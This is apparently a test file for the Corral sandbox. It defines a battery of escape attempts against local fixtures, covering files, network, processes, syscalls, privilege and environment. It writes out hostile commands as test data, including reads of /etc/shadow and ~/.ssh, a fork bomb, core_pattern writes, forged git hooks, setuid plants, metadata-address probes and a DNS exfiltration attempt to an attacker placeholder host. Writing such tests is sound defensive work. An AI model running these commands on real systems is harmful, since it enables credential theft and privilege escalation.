// The escape battery: attacks a contained command may try, each written so the
// command prints ESCAPED when the attack worked. The same cases run against
// Corral (escape.test.ts) and, for comparison, against other sandboxes
// (bench/escape-comparison.ts). Everything an attack reaches for is on this
// machine: host loopback servers, files in a temp folder, the host's /etc.
import { access, lstat, readdir, readFile, stat } from 'node:fs/promises';
import type { ContainerPolicyInput } from '../../src/policy/schema.ts';

/** What a case needs from the world around the sandbox. */
export interface EscapeWorld {
  /**
   * A temp folder holding outbox/ (granted read-write), inbox/ (read-only, with inbox/private denied) and victim/ (never granted);
   * inside outbox/, project/.git/hooks/pre-commit and records/private/secret.txt, which some cases protect read-only or deny.
   */
  dir: string;
  /** The syscall probe binary (packages/contain/test/probes), granted read-only where a case uses it. */
  probe: string;
  /** The Node binary (granted by the `node` preset). */
  node: string;
  /** The invoking user's home folder on the host. */
  home: string;
  /** A TCP server on host 127.0.0.1 and one on ::1; each answers HELLO. */
  tcpPort: number;
  tcp6Port: number;
  /** A UDP listener on host 127.0.0.1 that records what arrives (stands in for a DNS resolver an attacker controls). */
  udpPort: number;
  /** An abstract unix socket on the host (name without the leading NUL). */
  abstractSocket: string;
  /** A variable set in the host's environment that must never reach the sandbox. */
  markerEnv: { name: string; value: string };
  /** PID of a host process the sandbox must not be able to see or signal. */
  hostPid: number;
}

/** One attack. `expect` is a second check on top of "did not print ESCAPED", for outcomes an attack cannot print (a limit). */
export interface EscapeCase {
  id: string;
  category: 'filesystem' | 'network' | 'process' | 'syscall' | 'privilege' | 'environment';
  title: string;
  policy: (w: EscapeWorld) => ContainerPolicyInput;
  argv: (w: EscapeWorld) => string[];
  /** Corral-specific evidence of containment (a limit recorded, a refusal seen). */
  expect?: 'timeout' | 'memory' | 'processes' | 'output' | 'network-refused';
  /** Checked on the host after the run: true when the attack left a trace (a file written, a process alive). */
  hostEffect?: (w: EscapeWorld) => boolean | Promise<boolean>;
}

const shell: ContainerPolicyInput = { runtime: ['shell'] };
const sh = (script: string) => () => ['/bin/sh', '-c', script];
const withWork = (w: EscapeWorld): ContainerPolicyInput => ({
  runtime: ['shell'],
  filesystem: { readwrite: [`${w.dir}/outbox`], readonly: [`${w.dir}/inbox`], denied: [`${w.dir}/inbox/private`] },
  process: { timeoutMs: 20_000 },
});
// A read-write project whose git hooks are read-only (the host's next commit runs them) and whose private records are denied.
const withNestedProtection = (w: EscapeWorld): ContainerPolicyInput => ({
  runtime: ['shell'],
  filesystem: { readwrite: [`${w.dir}/outbox`], readonly: [`${w.dir}/outbox/project/.git/hooks`], denied: [`${w.dir}/outbox/records/private`] },
});
// A read-write folder with paths denied before they exist (.git/hooks: the host's next git command would run hooks planted there).
const withDeniedNotYetThere =
  (...names: string[]) =>
  (w: EscapeWorld): ContainerPolicyInput => ({ runtime: ['shell'], filesystem: { readwrite: [`${w.dir}/outbox`], denied: names.map((n) => `${w.dir}/outbox/${n}`) } });
const withProbe = (w: EscapeWorld): ContainerPolicyInput => ({ runtime: ['shell'], filesystem: { readonly: [w.probe] } });
const probe = (attempt: string) => (w: EscapeWorld) => ['/bin/sh', '-c', `out=$("${w.probe}" ${attempt}); echo "$out"; case "$out" in *' ok'*) echo ESCAPED;; esac`];
const node = (code: string) => (w: EscapeWorld) => [w.node, '-e', code];
const withNode = (extra: ContainerPolicyInput = {}) => (): ContainerPolicyInput => ({ runtime: ['node', 'shell'], ...extra });
const connectTcp = (host: string, port: number) =>
  `const s=require('net').connect(${port},'${host}');s.on('data',d=>{if(String(d).includes('HELLO'))console.log('ESCAPED');process.exit(0)});s.on('error',e=>{console.log(e.code);process.exit(1)});setTimeout(()=>process.exit(1),3000)`;
const viaProxy = (target: string) =>
  `const http=require('http');const r=http.request({host:'127.0.0.1',port:3128,method:'CONNECT',path:'${target}'});r.on('connect',(res,s)=>{console.log('status',res.statusCode);if(res.statusCode===200){s.on('data',d=>{if(String(d).includes('HELLO'))console.log('ESCAPED');process.exit(0)})}else process.exit(1)});r.on('error',e=>{console.log(e.code);process.exit(1)});r.end();setTimeout(()=>process.exit(1),5000)`;
const egressTo = (...allow: string[]) => withNode({ network: { egress: { allow } } });

export const ESCAPE_CASES: EscapeCase[] = [
  // ── Files the policy does not grant ────────────────────────────────────────
  { id: 'read-etc-shadow', category: 'filesystem', title: "read the host's /etc/shadow", policy: () => shell, argv: sh('cat /etc/shadow && echo ESCAPED') },
  { id: 'read-etc-passwd-users', category: 'filesystem', title: "list the host's users from /etc/passwd", policy: () => shell, argv: sh('grep -q "^_apt:\\|^postgres:\\|^systemd" /etc/passwd && echo ESCAPED') },
  { id: 'read-ssh-keys', category: 'filesystem', title: 'read ~/.ssh of the invoking user', policy: () => shell, argv: (w) => ['/bin/sh', '-c', `ls -A "${w.home}/.ssh" || ls -A "${w.home}" && echo ESCAPED`] },
  { id: 'read-other-home', category: 'filesystem', title: "list another user's home under /home", policy: () => shell, argv: sh('ls -A /home/* >/dev/null 2>&1 && echo ESCAPED; ls -A /home 2>/dev/null | grep -q . && echo ESCAPED') },
  { id: 'read-ungranted-folder', category: 'filesystem', title: 'read a file in a folder the policy never names', policy: withWork, argv: (w) => ['/bin/sh', '-c', `cat "${w.dir}/victim/secret.txt" && echo ESCAPED`] },
  { id: 'read-denied-inside-grant', category: 'filesystem', title: 'read a denied file inside a granted tree', policy: withWork, argv: (w) => ['/bin/sh', '-c', `cat "${w.dir}/inbox/private/secret.txt" && echo ESCAPED; ls -A "${w.dir}/inbox/private" | grep -q . && echo ESCAPED`] },
  { id: 'read-denied-via-dotdot', category: 'filesystem', title: 'reach the denied folder through ./ and ..', policy: withWork, argv: (w) => ['/bin/sh', '-c', `cd "${w.dir}/inbox" && cat ./private/../private/./secret.txt && echo ESCAPED`] },
  { id: 'write-readonly', category: 'filesystem', title: 'modify a file in a read-only grant', policy: withWork, argv: (w) => ['/bin/sh', '-c', `echo forged >> "${w.dir}/inbox/invoice.txt" && echo ESCAPED`], hostEffect: async (w) => (await readText(`${w.dir}/inbox/invoice.txt`)).includes('forged') },
  { id: 'create-in-readonly', category: 'filesystem', title: 'create a file in a read-only grant', policy: withWork, argv: (w) => ['/bin/sh', '-c', `echo x > "${w.dir}/inbox/new.txt" && echo ESCAPED`], hostEffect: (w) => exists(`${w.dir}/inbox/new.txt`) },
  { id: 'write-outside-grants', category: 'filesystem', title: 'write next to the granted folder', policy: withWork, argv: (w) => ['/bin/sh', '-c', `mkdir -p "${w.dir}/victim" 2>/dev/null; echo x > "${w.dir}/victim/planted.txt"; exit 0`], hostEffect: (w) => exists(`${w.dir}/victim/planted.txt`) },
  { id: 'write-dotdot', category: 'filesystem', title: 'write outside the grant through ..', policy: withWork, argv: (w) => ['/bin/sh', '-c', `echo x > "${w.dir}/outbox/../planted.txt"; exit 0`], hostEffect: (w) => exists(`${w.dir}/planted.txt`) },
  { id: 'write-host-tmp', category: 'filesystem', title: "write into the host's /tmp", policy: () => shell, argv: sh('echo x > /tmp/corral-escape-marker && test -f /tmp/corral-escape-marker && echo tmp-is-private'), hostEffect: () => exists('/tmp/corral-escape-marker') },
  { id: 'symlink-to-secret', category: 'filesystem', title: 'plant a symlink to a host secret and read through it', policy: withWork, argv: (w) => ['/bin/sh', '-c', `ln -sf /etc/shadow "${w.dir}/outbox/s" && cat "${w.dir}/outbox/s" && echo ESCAPED; ln -sf "${w.dir}/victim/secret.txt" "${w.dir}/outbox/v" && cat "${w.dir}/outbox/v" && echo ESCAPED`] },
  { id: 'symlink-planted-by-host', category: 'filesystem', title: 'follow a symlink inside the grant that points outside it', policy: withWork, argv: (w) => ['/bin/sh', '-c', `cat "${w.dir}/outbox/link-to-victim" && echo ESCAPED`] },
  { id: 'symlink-swap-write', category: 'filesystem', title: 'write through a symlink that points outside the grant', policy: withWork, argv: (w) => ['/bin/sh', '-c', `ln -sf "${w.dir}/victim/out.txt" "${w.dir}/outbox/w" && echo x > "${w.dir}/outbox/w" && echo ESCAPED`], hostEffect: (w) => exists(`${w.dir}/victim/out.txt`) },
  { id: 'replace-readonly-nested-in-rw', category: 'filesystem', title: 'move the folder above a read-only grant nested in the writable one away, and put forged git hooks in its place', policy: withNestedProtection, argv: (w) => ['/bin/sh', '-c', `cd "${w.dir}/outbox/project" && mv .git .git-moved && mkdir -p .git/hooks && echo forged > .git/hooks/pre-commit && echo ESCAPED`], hostEffect: async (w) => (await readText(`${w.dir}/outbox/project/.git/hooks/pre-commit`)).includes('forged') },
  { id: 'move-denied-out-of-mask', category: 'filesystem', title: 'move the folder above a denied one away, so the next run finds the denied files unmasked', policy: withNestedProtection, argv: (w) => ['/bin/sh', '-c', `mv "${w.dir}/outbox/records" "${w.dir}/outbox/moved" && echo ESCAPED`], hostEffect: async (w) => !(await exists(`${w.dir}/outbox/records/private/secret.txt`)) },
  { id: 'hardlink-readonly-into-rw', category: 'filesystem', title: 'hard-link a read-only file into the writable folder and modify it', policy: withWork, argv: (w) => ['/bin/sh', '-c', `ln "${w.dir}/inbox/invoice.txt" "${w.dir}/outbox/h" && echo forged >> "${w.dir}/outbox/h" && echo ESCAPED`], hostEffect: async (w) => (await readText(`${w.dir}/inbox/invoice.txt`)).includes('forged') },
  { id: 'hardlink-secret', category: 'filesystem', title: 'hard-link /etc/shadow into the writable folder', policy: withWork, argv: (w) => ['/bin/sh', '-c', `ln /etc/shadow "${w.dir}/outbox/shadow" && echo ESCAPED`], hostEffect: (w) => exists(`${w.dir}/outbox/shadow`) },
  { id: 'hardlink-denied-out', category: 'filesystem', title: 'hard-link a denied file out from under its mask into the writable folder', policy: withNestedProtection, argv: (w) => ['/bin/sh', '-c', `ln "${w.dir}/outbox/records/private/secret.txt" "${w.dir}/outbox/leak" && cat "${w.dir}/outbox/leak" && echo ESCAPED`], hostEffect: (w) => exists(`${w.dir}/outbox/leak`) },
  { id: 'create-denied-not-yet-there', category: 'filesystem', title: 'create a denied file, and denied git hooks, that do not exist yet inside the writable folder', policy: withDeniedNotYetThere('.env', '.git/hooks'), argv: (w) => ['/bin/sh', '-c', `cd "${w.dir}/outbox" && { echo planted > .env && echo ESCAPED; mkdir -p .git/hooks && echo forged > .git/hooks/pre-commit && echo ESCAPED; true; }`], hostEffect: async (w) => (await isFile(`${w.dir}/outbox/.env`)) || (await exists(`${w.dir}/outbox/.git/hooks/pre-commit`)) },
  { id: 'hardlink-at-denied-path', category: 'filesystem', title: 'hard-link a writable file at a denied path that does not exist yet, or rename one onto it', policy: withDeniedNotYetThere('.netrc'), argv: (w) => ['/bin/sh', '-c', `cd "${w.dir}/outbox" && echo mine > bait && { ln bait .netrc && echo ESCAPED; mv bait .netrc && echo ESCAPED; true; }`], hostEffect: (w) => isFile(`${w.dir}/outbox/.netrc`) },
  { id: 'proc-self-root', category: 'filesystem', title: 'read the host root through /proc/self/root', policy: () => shell, argv: sh('cat /proc/self/root/etc/shadow && echo ESCAPED; ls /proc/1/root/root 2>/dev/null | grep -q . && echo ESCAPED') },
  { id: 'bind-mount', category: 'filesystem', title: 'bind-mount the root into the writable folder', policy: withWork, argv: (w) => ['/bin/sh', '-c', `mkdir -p "${w.dir}/outbox/m" && mount --bind / "${w.dir}/outbox/m" && echo ESCAPED`] },
  { id: 'sysfs-and-devices', category: 'filesystem', title: 'reach /sys, block devices or kernel memory', policy: () => shell, argv: sh('ls /sys/class/net 2>/dev/null | grep -q . && echo ESCAPED; ls /dev | grep -Eq "^(sd|vd|nvme|xvd|mem|kmem|port)" && echo ESCAPED; head -c1 /dev/mem >/dev/null 2>&1 && echo ESCAPED') },
  { id: 'cgroupfs-write', category: 'filesystem', title: 'raise its own limits through the cgroup filesystem', policy: () => shell, argv: sh('ls /sys/fs/cgroup 2>/dev/null | grep -q . && echo ESCAPED') },

  // ── The network ─────────────────────────────────────────────────────────────
  { id: 'host-loopback-service', category: 'network', title: "connect to a service on the host's 127.0.0.1", policy: withNode(), argv: (w) => node(connectTcp('127.0.0.1', w.tcpPort))(w) },
  { id: 'host-loopback-v6', category: 'network', title: "connect to a service on the host's ::1", policy: withNode(), argv: (w) => node(connectTcp('::1', w.tcp6Port))(w) },
  { id: 'host-loopback-through-proxy', category: 'network', title: "reach the host's loopback service through the egress proxy", policy: () => egressTo('api.example.com:443')(), argv: (w) => node(viaProxy(`127.0.0.1:${w.tcpPort}`))(w), expect: 'network-refused' },
  { id: 'localhost-name-through-proxy', category: 'network', title: "name 'localhost' to the proxy when only a domain is allowed", policy: () => egressTo('api.example.com:443')(), argv: (w) => node(viaProxy(`localhost:${w.tcpPort}`))(w), expect: 'network-refused' },
  { id: 'private-address', category: 'network', title: 'reach a private address (10.0.0.1) through the proxy', policy: () => egressTo('*.example.com:443')(), argv: node(viaProxy('10.0.0.1:443')), expect: 'network-refused' },
  { id: 'metadata-address', category: 'network', title: 'reach the cloud metadata address 169.254.169.254', policy: () => egressTo('*.example.com:443')(), argv: node(viaProxy('169.254.169.254:80')), expect: 'network-refused' },
  { id: 'allowed-name-resolving-to-metadata', category: 'network', title: 'an allowed name that resolves to the metadata address', policy: () => egressTo('metadata.example.com:80')(), argv: node(viaProxy('metadata.example.com:80')), expect: 'network-refused' },
  { id: 'allowed-name-resolving-to-loopback', category: 'network', title: "an allowed name that resolves to the host's loopback", policy: (w) => egressTo(`rebind.example.com:${w.tcpPort}`)(), argv: (w) => node(viaProxy(`rebind.example.com:${w.tcpPort}`))(w), expect: 'network-refused' },
  { id: 'non-allowed-domain', category: 'network', title: 'a domain the policy does not list', policy: () => egressTo('api.example.com:443')(), argv: node(viaProxy('evil.example.net:443')), expect: 'network-refused' },
  { id: 'allowed-domain-other-port', category: 'network', title: 'an allowed domain on a port the policy does not list', policy: () => egressTo('api.example.com:443')(), argv: node(viaProxy('api.example.com:22')), expect: 'network-refused' },
  { id: 'wildcard-apex', category: 'network', title: "'*.example.com' used to reach example.com itself", policy: () => egressTo('*.example.com:443')(), argv: node(viaProxy('example.com:443')), expect: 'network-refused' },
  { id: 'dns-exfiltration', category: 'network', title: 'send data to a resolver (UDP) the attacker controls', policy: withNode(), argv: (w) => node(`const s=require('dgram').createSocket('udp4');s.send('secret.exfil',${w.udpPort},'127.0.0.1',e=>{console.log(e?e.code:'sent');setTimeout(()=>process.exit(0),300)});require('dns').lookup('secret.attacker.example',(e)=>{if(!e)console.log('ESCAPED')})`)(w), hostEffect: () => false },
  { id: 'abstract-unix-socket', category: 'network', title: "connect to the host's abstract unix socket", policy: withNode(), argv: (w) => node(`const s=require('net').connect('\\0${w.abstractSocket}');s.on('data',d=>{if(String(d).includes('HELLO'))console.log('ESCAPED');process.exit(0)});s.on('error',e=>{console.log(e.code);process.exit(1)})`)(w) },
  { id: 'raw-socket', category: 'network', title: 'open a raw IP socket', policy: withProbe, argv: probe('socket-raw-inet') },
  { id: 'netlink-socket', category: 'network', title: 'open a netlink socket (routing, audit, …)', policy: withProbe, argv: probe('socket-netlink') },
  { id: 'packet-socket', category: 'network', title: 'open a packet socket', policy: withProbe, argv: probe('socket-packet') },

  // ── Processes and resources ────────────────────────────────────────────────
  { id: 'fork-bomb', category: 'process', title: 'fork bomb', policy: () => ({ runtime: ['shell'], process: { maxProcesses: 64, timeoutMs: 4000 } }), argv: sh('bomb() { bomb | bomb & }; bomb; sleep 3'), expect: 'processes' },
  { id: 'fork-count', category: 'process', title: 'start more processes than maxProcesses (bounded)', policy: () => ({ runtime: ['shell'], process: { maxProcesses: 32, timeoutMs: 8000 } }), argv: sh('n=0; while [ $n -lt 60 ]; do sleep 5 & n=$((n+1)); done; [ "$(ls /proc | grep -c "^[0-9]")" -ge 60 ] && echo ESCAPED; kill $(jobs -p) 2>/dev/null; exit 0'), expect: 'processes' },
  { id: 'memory-bomb', category: 'process', title: 'allocate past memoryMB', policy: () => ({ runtime: ['node', 'shell'], process: { memoryMB: 128, timeoutMs: 15_000 } }), argv: (w) => [w.node, '-e', "const a=[];for(let i=0;i<12;i++){a.push(Buffer.alloc(32*2**20,1))}console.log('ESCAPED')"], expect: 'memory' },
  { id: 'cpu-spin', category: 'process', title: 'spin the CPU past timeoutMs', policy: () => ({ runtime: ['shell'], process: { timeoutMs: 1500 } }), argv: sh('end=$(( $(date +%s) + 4 )); while [ "$(date +%s)" -lt $end ]; do :; done; echo ESCAPED'), expect: 'timeout' },
  { id: 'output-flood', category: 'process', title: 'flood the output past maxOutputBytes', policy: () => ({ runtime: ['shell'], process: { maxOutputBytes: 65_536, timeoutMs: 10_000 } }), argv: sh('yes corral-output-flood'), expect: 'output' },
  { id: 'orphan-survives', category: 'process', title: 'leave a daemon running after the command exits', policy: () => shell, argv: sh('setsid sh -c "sleep 30; echo corral-orphan" >/dev/null 2>&1 & echo started'), hostEffect: () => hostProcessMatching('corral-orphan') },
  { id: 'see-host-processes', category: 'process', title: "see the host's processes", policy: () => shell, argv: (w) => ['/bin/sh', '-c', `[ "$(ls /proc | grep -c '^[0-9]')" -gt 6 ] && echo ESCAPED; grep -l "slee[p]" /proc/[0-9]*/cmdline 2>/dev/null | grep -q . && echo ESCAPED; [ -e /proc/${w.hostPid} ] && grep -q "slee[p]" /proc/${w.hostPid}/cmdline 2>/dev/null && echo ESCAPED; exit 0`] },
  { id: 'signal-host-process', category: 'process', title: 'kill a host process', policy: () => shell, argv: (w) => ['/bin/sh', '-c', `kill -9 ${w.hostPid} && echo ESCAPED`], hostEffect: (w) => !processAlive(w.hostPid) },

  // ── System calls a contained command never needs ───────────────────────────
  { id: 'ptrace', category: 'syscall', title: 'ptrace another process', policy: withProbe, argv: probe('ptrace') },
  { id: 'mount-syscall', category: 'syscall', title: 'mount a filesystem', policy: withProbe, argv: probe('mount') },
  { id: 'unshare-user', category: 'syscall', title: 'create a nested user namespace', policy: withProbe, argv: probe('unshare-user') },
  { id: 'unshare-cli', category: 'syscall', title: "create a nested namespace with util-linux's unshare -r", policy: () => shell, argv: sh('unshare -r id && echo ESCAPED') },
  { id: 'setns', category: 'syscall', title: 'join another namespace', policy: withProbe, argv: probe('setns') },
  { id: 'clone-newuser', category: 'syscall', title: 'clone into a new user namespace', policy: withProbe, argv: probe('clone-newuser') },
  { id: 'keyctl', category: 'syscall', title: 'use the kernel keyring', policy: withProbe, argv: probe('keyctl') },
  { id: 'bpf', category: 'syscall', title: 'load a BPF program', policy: withProbe, argv: probe('bpf') },
  { id: 'perf-event-open', category: 'syscall', title: 'open a perf event', policy: withProbe, argv: probe('perf_event_open') },
  { id: 'kexec-and-modules', category: 'syscall', title: 'load a kernel module or a new kernel', policy: withProbe, argv: (w) => ['/bin/sh', '-c', `for a in init_module finit_module kexec_load; do out=$("${w.probe}" $a); echo "$out"; case "$out" in *' ok'*) echo ESCAPED;; esac; done`] },
  { id: 'open-by-handle-at', category: 'syscall', title: 'open a host file by handle (the shocker attack)', policy: withProbe, argv: probe('open_by_handle_at') },
  { id: 'userfaultfd', category: 'syscall', title: 'create a userfaultfd (race amplifier)', policy: withProbe, argv: probe('userfaultfd') },
  { id: 'personality', category: 'syscall', title: 'switch off address-space randomisation', policy: withProbe, argv: probe('personality-addr-no-randomize') },
  { id: 'tiocsti', category: 'syscall', title: "inject keystrokes into the caller's terminal", policy: withProbe, argv: probe('tiocsti') },
  { id: 'io-uring', category: 'syscall', title: 'set up io_uring (bypasses system-call filters)', policy: withProbe, argv: probe('io_uring_setup') },

  // ── Privilege ──────────────────────────────────────────────────────────────
  { id: 'setuid-binary', category: 'privilege', title: 'gain privileges through a setuid binary', policy: () => shell, argv: sh('for b in /usr/bin/su /usr/bin/passwd /usr/bin/mount /usr/bin/newgrp /usr/bin/chfn; do [ -u "$b" ] && echo "setuid bit visible on $b"; done; grep -q "^NoNewPrivs:[[:space:]]*1" /proc/self/status || echo ESCAPED; grep -q "^CapEff:[[:space:]]*0000000000000000" /proc/self/status || echo ESCAPED; exit 0') },
  { id: 'chroot', category: 'privilege', title: 'chroot out of the sandbox', policy: withProbe, argv: probe('chroot') },
  {
    id: 'setuid-file-on-host',
    category: 'privilege',
    title: 'leave a setuid or setgid program in the writable folder, for the host to run as its owner (chmod u+s and g+s, install -m 4755, cp -p and tar x of setuid programs, a setgid folder)',
    policy: withWork,
    argv: (w) => ['/bin/sh', '-c', [
      `cd "${w.dir}/outbox" && rm -rf setuid && mkdir setuid && cd setuid || exit 1`,
      'cp /usr/bin/id u; chmod 4755 u',
      'cp /usr/bin/id g; chmod g+s g',
      'install -m 4755 /usr/bin/id installed',
      'for b in /usr/bin/su /usr/bin/passwd; do [ -u "$b" ] && cp -p "$b" copied && break; done',
      'cp /usr/bin/id t; tar cf t.tar --mode=6755 t; mkdir x; tar xpf t.tar -C x',
      'mkdir d; chmod g+s d',
      'for f in u g installed copied x/t d; do { [ -u "$f" ] || [ -g "$f" ]; } && echo "ESCAPED $f"; done',
      'exit 0',
    ].join('; ')],
    // The sandbox's mounts are nosuid; what counts is the mode the file keeps on the host.
    hostEffect: (w) => hasSetuidOrSetgid(`${w.dir}/outbox`),
  },

  { id: 'proc-host-kernel', category: 'privilege', title: "read what /proc tells of the host kernel: its symbols, timers, keyrings, memory map, allocators and hardware", policy: () => shell, argv: sh('for f in kallsyms kcore timer_list timer_stats sched_debug latency_stats keys key-users vmallocinfo slabinfo pagetypeinfo kpagecount kpageflags kpagecgroup iomem ioports kmsg; do [ "$(head -c 64 /proc/$f 2>/dev/null | wc -c)" -gt 0 ] && echo "ESCAPED $f"; done; find /proc/acpi /proc/asound /proc/bus /proc/driver /proc/fs /proc/scsi -mindepth 1 2>/dev/null | grep -q . && echo ESCAPED; exit 0') },
  { id: 'proc-host-boot', category: 'privilege', title: "learn the host kernel's command line, build configuration and interrupt lines from /proc (cmdline, bootconfig, config.gz, interrupts, softirqs, irq/)", policy: () => shell, argv: sh('for f in cmdline bootconfig config.gz interrupts softirqs; do [ "$(head -c 64 /proc/$f 2>/dev/null | wc -c)" -gt 0 ] && echo "ESCAPED $f"; done; find /proc/irq -mindepth 1 2>/dev/null | grep -q . && echo ESCAPED irq; exit 0') },
  { id: 'proc-sys-write', category: 'privilege', title: "write the host kernel's sysctls (kernel.core_pattern runs a program as host root at the next crash)", policy: () => shell, argv: sh('v=$(cat /proc/sys/kernel/core_pattern) && printf "%s\\n" "$v" > /proc/sys/kernel/core_pattern && echo ESCAPED; find /proc/sys -type f -writable 2>/dev/null | grep -q . && echo ESCAPED; exit 0') },

  // ── The environment ────────────────────────────────────────────────────────
  { id: 'leaked-env', category: 'environment', title: "read a secret from the host's environment", policy: () => shell, argv: (w) => ['/bin/sh', '-c', `env | grep -q "${w.markerEnv.value}" && echo ESCAPED; exit 0`] },
  { id: 'proc-1-environ', category: 'environment', title: "read the host's environment through /proc/1/environ", policy: () => shell, argv: (w) => ['/bin/sh', '-c', `for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f 2>/dev/null; done | grep -q "${w.markerEnv.value}" && echo ESCAPED; exit 0`] },
  { id: 'display-socket', category: 'environment', title: "reach the host's X11 display or clipboard", policy: () => shell, argv: sh('ls -A /tmp/.X11-unix 2>/dev/null | grep -q . && echo ESCAPED; [ -n "${DISPLAY:-}${WAYLAND_DISPLAY:-}" ] && echo ESCAPED; exit 0') },
];

async function readText(path: string): Promise<string> {
  return readFile(path, 'utf8').catch(() => '');
}

async function isFile(path: string): Promise<boolean> {
  return stat(path).then(
    (s) => s.isFile(),
    () => false,
  );
}

/** True when a file or folder under `dir` (at any depth) is set-user-ID or set-group-ID. */
async function hasSetuidOrSetgid(dir: string): Promise<boolean> {
  for (const name of await readdir(dir, { recursive: true })) {
    const mode = await lstat(`${dir}/${name}`).then((s) => s.mode, () => 0);
    if ((mode & 0o6000) !== 0) return true;
  }
  return false;
}

async function exists(path: string): Promise<boolean> {
  return access(path).then(
    () => true,
    () => false,
  );
}

function processAlive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

async function hostProcessMatching(text: string): Promise<boolean> {
  // The orphan would still be sleeping: give a detached one time to show up, then look.
  await new Promise((r) => setTimeout(r, 200));
  for (const entry of await readdir('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    const cmdline = await readFile(`/proc/${entry}/cmdline`, 'utf8').catch(() => '');
    if (cmdline.includes(text)) return true;
  }
  return false;
}
